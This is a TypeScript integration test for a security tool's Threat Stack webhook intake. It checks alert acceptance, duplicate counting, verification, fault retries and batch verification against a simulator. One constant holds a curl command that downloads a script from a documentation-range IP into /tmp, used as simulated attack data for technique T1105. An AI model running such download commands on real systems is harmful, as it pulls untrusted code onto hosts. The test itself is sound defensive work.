import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { webhookIntake } from '../../src/alerts/intake.ts';
import { verifyWebhookAlert, verifyWebhookAlerts } from '../../src/alerts/verify.ts';
import { webhookSecretService } from '../../src/alerts/webhook-secret.ts';
import type { ThreatStackClient } from '../../src/connectors/threatstack/client.ts';
import { agentHasAlert, alertKey } from '../../src/connectors/threatstack/converters.ts';
import { type WebhookAlert, webhookPayloadSchema } from '../../src/connectors/threatstack/webhook.ts';
import { VigilError } from '../../src/errors.ts';
import { openSealedSecret, sealSecret } from '../../src/integrations/secrets.ts';
import { storeBackends, type TestStore } from '../../src/store/testing.ts';
import type { GraphStore } from '../../src/store/types.ts';
import { admin, type SimHarness, startSim } from '../helpers/threatstack.ts';
import { simClient, startReceiver } from './harness.ts';

const INTEGRATION = 'ts-webhook';
const CURL = 'curl -s http://203.0.113.7:8080/x.sh -o /tmp/x.sh';
const key = Buffer.alloc(32, 3);
const cipher = {
  seal: (plaintext: string, context: string) => sealSecret(key, plaintext, context),
  open: (sealed: string, context: string) => {
    const plaintext = openSealedSecret(key, sealed, context);
    if (plaintext === undefined) throw new VigilError('CONFIG_INVALID', 'does not decrypt');
    return plaintext;
  },
};

describe.each(storeBackends)(
  'Threat Stack webhook intake end to end (no HTTP server) on $name',
  (backend) => {
    let h: SimHarness;
    let opened: TestStore | undefined;
    let store: GraphStore;
    let client: ThreatStackClient;
    let toVerify: string[];

    beforeEach(async (context) => {
      if (!backend.available) context.skip();
      h = await startSim({ agents: 20, cves: 5, findingsPerAgent: 1, alerts: 20 });
      opened = await backend.open();
      store = opened.store;
      client = simClient(h);
      toVerify = [];
      await store.insertIntegration({
        id: INTEGRATION,
        name: 'prod-ts',
        kind: 'threatstack',
        config: {},
        secrets: {},
        createdAt: '2026-11-25T12:00:00.000Z',
        updatedAt: '2026-11-25T12:00:00.000Z',
      });
    });

    afterEach(async () => {
      await client?.close();
      await opened?.dispose();
      opened = undefined;
      await h?.close();
    });

    const intake = () =>
      webhookIntake({
        store,
        secrets: webhookSecretService({ store, cipher, now: h.clock.now }),
        now: h.clock.now,
        verifyLater: async (alerts) => {
          toVerify.push(...alerts.map((alert) => alert.alertId));
        },
      });
    const verify = (alertId: string) =>
      verifyWebhookAlert({ client, store, integrationId: INTEGRATION, alertId, now: h.clock.now });

    /** Records an attack-simulation action and returns what the simulator's webhook emitter POSTs for its alert. */
    async function attackAndCaptureWebhook(): Promise<{ agentId: string; alerts: WebhookAlert[] }> {
      const receiver = await startReceiver();
      try {
        await admin(h.sim.url, 'PUT', '/_sim/webhooks/target', { url: receiver.url });
        const agents = (await h.call('GET', '/v2/agents?status=online')).json<{
          agents: Array<{ id: string; hostname: string }>;
        }>();
        const agent = agents.agents[0];
        if (agent === undefined) throw new Error('no online agent');
        const action = await admin<{ alertId: string | null; alertVisibleAt: string | null }>(
          h.sim.url,
          'POST',
          '/_sim/actions',
          { technique: 'T1105', hostname: agent.hostname, commandLine: CURL },
        );
        expect(action.status).toBe(201);
        h.clock.advance(Date.parse(action.json.alertVisibleAt ?? '') - h.clock.now() + 1000);
        await admin(h.sim.url, 'PUT', '/_sim/clock', { advanceMs: 0 }); // the emitter delivers on a clock move
        await h.sim.simulation.webhooks.settle();
        expect(receiver.bodies).toHaveLength(1);
        const payload = webhookPayloadSchema.parse(JSON.parse(receiver.bodies[0] ?? ''));
        expect(payload.alerts.map((alert) => alert.id)).toEqual([action.json.alertId]);
        return { agentId: agent.id, alerts: payload.alerts };
      } finally {
        await receiver.close();
      }
    }

    it('accepts the emitted alert, verifies it with its events, and counts a replay as a duplicate', async () => {
      const { secret } = await webhookSecretService({ store, cipher }).secretOf(INTEGRATION);
      expect(await intake().verifySecret(INTEGRATION, secret)).toBe(true);
      const { agentId, alerts } = await attackAndCaptureWebhook();
      const alertId = alerts[0]?.id ?? '';

      expect(await intake().accept(INTEGRATION, alerts)).toEqual({ accepted: 1, duplicates: 0 });
      expect(toVerify).toEqual([alertId]);
      expect(await store.getEntity(alertKey(alertId))).toMatchObject({
        integrationId: INTEGRATION,
        properties: { verified: false, verification: 'pending', source: 'webhook' },
      });
      // A replay before verification is a duplicate, enqueued again (a lost enqueue heals).
      expect(await intake().accept(INTEGRATION, alerts)).toEqual({ accepted: 0, duplicates: 1 });
      expect(toVerify).toEqual([alertId, alertId]);

      const outcome = await verify(alertId);
      expect(outcome.status).toBe('verified');
      const stored = await store.getEntity(alertKey(alertId));
      expect(stored).toMatchObject({
        properties: {
          id: alertId,
          agentId,
          verified: true,
          verification: 'verified',
          source: 'webhook',
          dismissed: false,
        },
      });
      expect(await store.getRelationship(agentHasAlert(agentId, alertId)._key)).toMatchObject({
        integrationId: INTEGRATION,
      });
      const events = await store.getAlertEvents(alertKey(alertId));
      expect(events?.events.length).toBeGreaterThan(0);
      expect(stored?.properties.eventCount).toBe(events?.events.length);
      expect(events?.events).toContainEqual(expect.objectContaining({ alertId, command: CURL, agentId }));

      expect(await intake().accept(INTEGRATION, alerts)).toEqual({ accepted: 0, duplicates: 1 });
      expect(toVerify).toEqual([alertId, alertId]);
      expect(await store.getEntity(alertKey(alertId))).toEqual(stored);
    });

    it('keeps an alert the API does not know, flagged unverified with the reason', async () => {
      const { alerts } = await attackAndCaptureWebhook();
      const unknown = alerts.map((alert) => ({ ...alert, id: 'ffffffffffffffffffffffff' }));
      expect(await intake().accept(INTEGRATION, unknown)).toEqual({ accepted: 1, duplicates: 0 });
      expect(await verify('ffffffffffffffffffffffff')).toEqual({
        status: 'unverified',
        reason: "Threat Stack's API does not know alert ffffffffffffffffffffffff (404)",
      });
      expect(await store.getEntity(alertKey('ffffffffffffffffffffffff'))).toMatchObject({
        properties: {
          verified: false,
          verification: 'unverified',
          verificationReason: expect.stringContaining('404'),
        },
      });
    });

    it('defers verification with a retryable coded error while the vendor fails, then verifies', async () => {
      const { alerts } = await attackAndCaptureWebhook();
      const alertId = alerts[0]?.id ?? '';
      await intake().accept(INTEGRATION, alerts);
      await admin(h.sim.url, 'PUT', '/_sim/faults', { status500: 1, pathPrefix: '/v2/alerts' });
      const failed = await verify(alertId).catch((error: unknown) => error);
      expect(failed).toBeInstanceOf(VigilError);
      expect(failed).toMatchObject({
        code: 'ALERT_VERIFICATION_DEFERRED',
        details: { retryable: true, causeCode: 'PROVIDER_API_ERROR' },
      });
      expect((await store.getEntity(alertKey(alertId)))?.properties.verification).toBe('pending');
      await admin(h.sim.url, 'PUT', '/_sim/faults', {});
      expect((await verify(alertId)).status).toBe('verified');
    });

    it('verifies a batch with one client, settling without a call what is no longer pending', async () => {
      const { alerts } = await attackAndCaptureWebhook();
      const alertId = alerts[0]?.id ?? '';
      const unknownId = 'eeeeeeeeeeeeeeeeeeeeeeee';
      const unknown = alerts.map((alert) => ({ ...alert, id: unknownId }));
      expect(await intake().accept(INTEGRATION, [...alerts, ...unknown])).toEqual({
        accepted: 2,
        duplicates: 0,
      });
      const batch = [alertId, unknownId, '0123456789abcdef01234567'];
      const verifyBatch = (alertIds: readonly string[]) =>
        verifyWebhookAlerts({ client, store, integrationId: INTEGRATION, alertIds, now: h.clock.now });

      expect(await verifyBatch(batch)).toEqual({ verified: 1, unverified: 1, settled: 1 });
      expect((await store.getEntity(alertKey(alertId)))?.properties.verification).toBe('verified');
      expect((await store.getEntity(alertKey(unknownId)))?.properties.verification).toBe('unverified');
      // The API failing now changes nothing: a replayed batch asks it nothing.
      await admin(h.sim.url, 'PUT', '/_sim/faults', { status500: 1, pathPrefix: '/v2/alerts' });
      expect(await verifyBatch(batch)).toEqual({ verified: 0, unverified: 0, settled: 3 });
      expect(await verify(alertId)).toEqual({ status: 'settled' });
      await admin(h.sim.url, 'PUT', '/_sim/faults', {});

      const aborted = new AbortController();
      aborted.abort(new VigilError('JOB_LEASE_LOST', 'lost'));
      await expect(
        verifyWebhookAlerts({
          client,
          store,
          integrationId: INTEGRATION,
          alertIds: batch,
          signal: aborted.signal,
        }),
      ).rejects.toMatchObject({ code: 'JOB_LEASE_LOST' });
    });

    it('refuses to verify an alert the integration does not hold', async () => {
      await expect(verify('0123456789abcdef01234567')).rejects.toMatchObject({ code: 'NOT_FOUND' });
    });
  },
);
